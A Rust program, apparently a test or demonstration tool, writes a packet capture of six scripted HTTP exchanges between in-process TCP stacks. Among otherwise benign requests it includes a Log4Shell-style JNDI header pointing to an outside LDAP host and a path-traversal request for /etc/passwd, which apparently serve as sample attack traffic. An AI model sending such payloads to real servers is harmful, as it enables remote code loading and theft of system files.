//! Writes a capture of the demonstration's dialogue, played between two in-process TCP stacks.
//!
//! usage: dialogue OUT.pcap     the stand-in for a real server and client where namespaces are refused

use harness::dialogue::{Exchange, play};
use std::io::Write;
use std::process::ExitCode;

const REQUESTS: [(&str, &str); 6] = [
    (
        "GET / HTTP/1.1\r\nHost: 10.77.0.10\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n",
        "<html><title>stopgap demonstration</title></html>",
    ),
    (
        "GET /page.txt HTTP/1.1\r\nHost: 10.77.0.10\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ),
    (
        "POST /login HTTP/1.1\r\nHost: 10.77.0.10\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 35\r\n\r\nuser=alice&password=correct+horse+b",
        "welcome",
    ),
    (
        "GET / HTTP/1.1\r\nHost: 10.77.0.10\r\nX-Api-Version: ${jndi:ldap://198.51.100.66:1389/a}\r\n\r\n",
        "<html></html>",
    ),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\nHost: 10.77.0.10\r\n\r\n", "not here"),
    (
        "GET /index.html HTTP/1.1\r\nHost: 10.77.0.10\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n",
        "<html><title>stopgap demonstration</title></html>",
    ),
];

fn main() -> ExitCode {
    let Some(path) = std::env::args().nth(1) else {
        eprintln!("usage: dialogue OUT.pcap");
        return ExitCode::from(2);
    };
    match write(&path) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("dialogue: {path}: {e}");
            ExitCode::from(2)
        }
    }
}

fn write(path: &str) -> std::io::Result<()> {
    let mut out = std::io::BufWriter::new(std::fs::File::create(path)?);
    // Classic pcap, microseconds, Ethernet.
    for word in [0xa1b2_c3d4_u32, 0x0004_0002, 0, 0, 65_535, 1] {
        out.write_all(&word.to_le_bytes())?;
    }
    let start = 1_700_000_000_000_000;
    for (i, (request, page)) in REQUESTS.iter().enumerate() {
        let response = format!(
            "HTTP/1.1 200 OK\r\nServer: demonstration\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{page}",
            page.len()
        );
        let exchange = Exchange { request: request.as_bytes().to_vec(), response: response.into_bytes() };
        for f in play(&[exchange], 40_000 + i as u16, start + i as i64 * 1_000_000, &|_| false) {
            let len = f.data.len() as u32;
            for word in [(f.micros / 1_000_000) as u32, (f.micros % 1_000_000) as u32, len, len] {
                out.write_all(&word.to_le_bytes())?;
            }
            out.write_all(&f.data)?;
        }
    }
    out.flush()
}
